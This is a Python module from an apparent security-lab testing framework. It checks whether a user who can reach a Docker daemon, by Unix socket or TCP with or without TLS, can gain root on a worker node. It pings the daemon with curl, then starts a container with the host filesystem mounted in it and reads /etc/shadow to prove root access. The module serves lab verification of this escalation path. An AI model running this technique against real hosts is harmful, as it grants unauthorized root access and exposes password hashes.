"""Helpers of the techniques against dockerd: a caller who may start a container can become root."""

from __future__ import annotations

import re
import secrets
from collections.abc import Sequence
from dataclasses import replace
from typing import TYPE_CHECKING

from labkit import agents
from labkit.errors import CommandFailed, ProbeError, ProbeTimeout
from labkit.lab.traces import Trace, leaving
from labkit.model import Claim, Foothold, Model
from labkit.model.decision import ALLOWED
from labkit.model.file_access import may_open, socket_file
from labkit.techniques._lib.machines.reach import (
    ATTEMPTS,
    DEADLINE,
    address_in_lab,
    digest,
    execution_place,
    run,
)
from labkit.techniques._lib.technique import Prediction, holds
from labkit.techniques._lib.verdict import Setting, Verdict

if TYPE_CHECKING:
    from labkit.cluster import Environment
    from labkit.lab import Lab, Output
    from labkit.techniques._lib.machines.pod import Pod

__all__ = ["SOCKET", "WORKER", "become_root", "control", "listens_on", "opens_socket"]

SOCKET = "/run/docker.sock"
WORKER, ONLY_ROOT_READS = "worker1", "/etc/shadow"
#: Docker's client reports a closed port and a forbidden one with the same words; curl does not.
PING = ["curl", "--silent", "--show-error", "--verbose", "--noproxy", "*"]
#: Seconds for the answer of a Docker Engine, on an idle machine.
PATIENCE = 5.0
REFUSALS = ("Permission denied", "Connection refused")
ALERT = re.compile(r"^curl: .*alert ([a-z ]+[a-z])", re.MULTILINE)


def opens_socket(model: Model, node: str, claim: Claim, user: str) -> Prediction:
    """Predict whether a user of a machine may connect to its Docker socket.

    Parameters
    ----------
    model : Model
    node, user : str
    claim : Claim
        The socket's client authentication.

    Returns
    -------
    Prediction
        Its reasons are the socket's mode and, if it is by a group, the line that makes the user a
        member.
    """
    if claim.value not in ("none", "file-mode"):
        return holds(claim, "none")
    env = model.environment
    found = may_open(env, env.node(node), user, SOCKET, file=socket_file(SOCKET, claim))
    by_group = found.value == ALLOWED and claim.value != "none"
    because = (str(claim), str(found.caller.source)) if by_group else (str(claim),)
    return replace(holds(found.claim, ALLOWED), because=because)


def become_root(
    lab: Lab,
    technique: str,
    foothold: Foothold,
    host: str,
    *,
    user: str | None = None,
    pod: Pod | None = None,
    tls: Sequence[str] | None = None,
) -> Verdict:
    """Read a file that only root can read on a worker, through its dockerd.

    Parameters
    ----------
    lab : Lab
    technique : str
    foothold : Foothold
    host : str
        As Docker's client takes it: ``unix://...`` or ``tcp://NAME:PORT``.
    user : str, optional
        The user on the foothold's machine. The default is the foothold's own.
    pod : Pod, optional
        The pod from which dockerd is called; the socket's path is then the pod's own.
    tls : sequence of str, optional
        None for plaintext. For TLS, the paths of a certificate and its key, or nothing.

    Returns
    -------
    Verdict

    Raises
    ------
    ProbeTimeout
        A command did not end in time.
    ProbeError
        dockerd neither refused the call nor gave the file.
    """
    kind, _, where = host.partition("://")
    options = [f"--host={host}"]
    if kind == "tcp":
        address_in_lab(lab, where.partition(":")[0])
        scheme = "http" if tls is None else "https"
        pair = list(zip(("cert", "key"), tls or (), strict=False))
        ping = ["--insecure", f"{scheme}://{where}/_ping"]
        ping += [word for name, path in pair for word in (f"--{name}", path)]
        if tls is not None:
            # without the second option, Docker's client looks for a CA file and fails
            options += ["--tls", "--tlscacert=", *(f"--tls{name}={path}" for name, path in pair)]
        endpoint = f"tcp port {where.partition(':')[2]} of dockerd@{WORKER}"
    else:
        endpoint = f"{where} of dockerd@{WORKER}"
        if pod:
            where = pod.path(where)
            options = [f"--host=unix://{where}"]
        ping = ["--unix-socket", where, "http://docker/_ping"]
    ping = [*PING, "--max-time", f"{PATIENCE * lab.stretch():.0f}", *ping]
    for _ in range(ATTEMPTS):
        asked = _run(lab, foothold, ping, user, pod)
        if "reset by peer" not in asked.error:
            break
    refusal = next((word.lower() for word in REFUSALS if word in asked.error), "")
    if alert := ALERT.search(asked.error):
        refusal = f"TLS alert: {alert[1]}"
    if asked.exit_code and refusal:
        reason, tried = refusal, (f"called the {endpoint}",)
        return Verdict(technique, lab.mode, foothold, False, reason, tried, control(lab))
    if asked.exit_code:
        raise ProbeError(f"{technique}: curl exited with {asked.exit_code}", evidence=_tail(asked))
    image = f"labkit-attack-{secrets.token_hex(4)}"
    argv = agents.argv("read_by_docker", ONLY_ROOT_READS, image, *options)
    with leaving(lab, Trace("container", image, WORKER)):
        taken = _run(lab, foothold, argv, user, pod)
    expected = digest(lab, WORKER, ONLY_ROOT_READS)
    if taken.exit_code or expected not in taken.text:
        raise ProbeError(
            f"{technique}: {endpoint} answers, but {ONLY_ROOT_READS} was not read",
            evidence=_tail(taken),
        )
    evidence = (
        f"called the {endpoint}, and it answered",
        "started a container with the machine's / mounted in it",
        f"read: {ONLY_ROOT_READS} of {WORKER}, which only root may; the right bytes by their hash",
    )
    return Verdict(technique, lab.mode, foothold, True, "dockerd carries out commands", evidence)


def _run(
    lab: Lab, foothold: Foothold, argv: list[str], user: str | None, pod: Pod | None
) -> Output:
    node, usual, prefix = (pod.node, None, pod.prefix) if pod else execution_place(lab, foothold)
    try:
        timeout = DEADLINE * lab.stretch()
        return lab.exec(node, [*prefix, *argv], user=user or usual, timeout=timeout, check=False)
    except CommandFailed as error:
        raise ProbeTimeout(error.message, evidence=error.evidence) from error


def _tail(output: Output) -> list[str]:
    return output.error.strip().splitlines()[-5:]


def control(lab: Lab) -> str:
    """Show, after a refusal, that the Docker Engine is alive."""
    run(lab, WORKER, ["docker", f"--host=unix://{SOCKET}", "version"], check=True)
    return "root on the worker commands dockerd through its socket"


def listens_on(env: Environment) -> list[Setting]:
    """Return where the worker's Docker Engine listens, as a setting of a technique."""
    found = env.component(f"dockerd@{WORKER}").values("host")
    where = " ".join(setting.value for setting in found)
    return [("where the Docker Engine listens", where, str(found[0].source))]
